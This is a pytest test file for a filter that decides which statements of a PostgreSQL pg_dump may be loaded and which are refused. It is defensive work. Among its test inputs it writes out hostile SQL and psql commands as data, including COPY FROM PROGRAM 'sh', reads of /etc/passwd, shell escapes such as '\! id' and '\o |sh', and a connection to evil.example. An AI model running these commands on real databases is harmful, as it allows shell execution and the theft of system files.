"""What is done with each statement of a dump: what pg_dump writes passes, nothing else does."""

import pytest

from tasks.domain.dump_statements import Action, connected, excerpt, judge
from tasks.domain.errors import BadInput


@pytest.mark.parametrize(
    ("statement", "action"),
    [
        ("SET client_encoding = 'UTF8'", Action.LOAD),
        ("SET standard_conforming_strings = on", Action.DROP),
        ("SET standard_conforming_strings = off", Action.REFUSE),
        ("SET statement_timeout = 0", Action.DROP),
        ("SET SESSION AUTHORIZATION postgres", Action.DROP),
        ("SET ROLE postgres", Action.DROP),
        ("SELECT pg_catalog.set_config('search_path', '', false)", Action.LOAD),
        ("SELECT pg_catalog.setval('public.\"a_id_seq\"', 12, true)", Action.LOAD),
        ("SELECT pg_catalog.setval('x', (SELECT 1), true)", Action.REFUSE),
        ("SELECT pg_catalog.setval('x', 1, true), pg_sleep(9)", Action.REFUSE),
        ("SELECT pg_catalog.lowrite(0, '\\x00ff')", Action.LOAD),
        ("SELECT pg_read_file('/etc/passwd')", Action.REFUSE),
        ("SELECT lo_import('/etc/passwd')", Action.REFUSE),
        ("COPY public.a (b, c) FROM stdin", Action.LOAD),
        ("COPY public.a FROM PROGRAM 'id'", Action.REFUSE),
        ("COPY public.a FROM '/etc/passwd'", Action.REFUSE),
        ("COPY public.a TO PROGRAM 'sh'", Action.REFUSE),
        ("DO $$ BEGIN PERFORM 1; END $$", Action.REFUSE),
        ("CALL x()", Action.REFUSE),
        ("VACUUM", Action.REFUSE),
        ("ALTER SYSTEM SET archive_command = 'id'", Action.REFUSE),
        ("LOAD 'x'", Action.REFUSE),
        ("EXECUTE x", Action.REFUSE),
        ("WITH x AS (SELECT 1) SELECT 1", Action.REFUSE),
        ("CREATE ROLE eve SUPERUSER", Action.NOTE),
        ("ALTER USER eve SUPERUSER", Action.NOTE),
        ("CREATE USER MAPPING FOR eve SERVER s", Action.NOTE),
        ("GRANT postgres TO eve", Action.NOTE),
        ("GRANT pg_execute_server_program TO eve WITH ADMIN OPTION", Action.NOTE),
        ("GRANT SELECT ON TABLE a TO eve", Action.TRY),
        ("GRANT SET ON PARAMETER x TO eve", Action.NOTE),
        ("CREATE TABLESPACE t LOCATION '/tmp'", Action.NOTE),
        ("CREATE DATABASE x", Action.NOTE),
        ("ALTER DATABASE x SET session_preload_libraries TO 'y'", Action.NOTE),
        ("CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()", Action.NOTE),
        ("CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA public", Action.TRY),
        ('CREATE EXTENSION "uuid-ossp"', Action.TRY),
        ("CREATE EXTENSION plpython3u", Action.NOTE),
        ("CREATE EXTENSION dblink", Action.NOTE),
        ("ALTER EXTENSION pgcrypto UPDATE", Action.NOTE),
        ("CREATE SERVER s FOREIGN DATA WRAPPER w", Action.NOTE),
        ("CREATE SUBSCRIPTION s CONNECTION '' PUBLICATION p", Action.NOTE),
        ("CREATE PROCEDURAL LANGUAGE c", Action.NOTE),
        ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO eve", Action.NOTE),
        ("ALTER TABLE public.a OWNER TO postgres", Action.DROP),
        ("ALTER TABLE ONLY public.a ADD CONSTRAINT p PRIMARY KEY (b)", Action.LOAD),
        ("ALTER TABLE public.a ENABLE ROW LEVEL SECURITY", Action.TRY),
        ("CREATE TABLE public.a (b integer)", Action.LOAD),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", Action.TRY),
        ("create or replace function f() returns int language sql as ''", Action.TRY),
        ("CREATE CONSTRAINT TRIGGER t AFTER INSERT ON a EXECUTE FUNCTION f()", Action.TRY),
        ("DROP TABLE IF EXISTS public.a", Action.DROP),
    ],
)
def test_each_statement_has_one_fate(statement: str, action: Action) -> None:
    assert judge(statement.encode()).action is action


@pytest.mark.parametrize(
    ("command", "database"),
    [
        (r"\connect rlhf_audit", "rlhf_audit"),
        (r'\connect "Odd ""name"""', 'Odd "name"'),
        (r"""\connect -reuse-previous=on "dbname='it\'s'" """.strip(), "it's"),
        (r"\restrict abcDEF123", None),
        (r"\unrestrict abcDEF123", None),
    ],
)
def test_the_commands_that_pg_dump_writes_are_understood(
    command: str, database: str | None
) -> None:
    assert connected(command.encode()) == database


@pytest.mark.parametrize(
    "command",
    [
        r"\! id",
        r"\copy a from program 'id'",
        r"\i /etc/passwd",
        r"\o |sh",
        r"\g |sh",
        r"\set x `id`",
        r"\connect x postgres evil.example 5432",
        r"""\connect "dbname='x' host=evil.example" """.strip(),
        r"\restrict a b",
        r"\lo_import /etc/passwd",
        "\\",
    ],
)
def test_every_other_command_is_refused_unrun(command: str) -> None:
    with pytest.raises(BadInput, match="nothing of it was run"):
        connected(command.encode())


def test_a_copy_is_told_by_its_end_however_many_columns_it_has() -> None:
    columns = ", ".join(f"a_column_with_a_long_name_{number}" for number in range(300))
    copy = f"COPY public.wide ({columns})".encode()

    assert judge(copy + b" FROM stdin").action is Action.LOAD
    assert judge(copy + b" FROM PROGRAM 'x'").action is Action.REFUSE


def test_the_excerpt_of_an_insert_shows_no_value() -> None:
    assert "alice" not in excerpt(b"INSERT INTO public.p VALUES ('alice', 'a')")
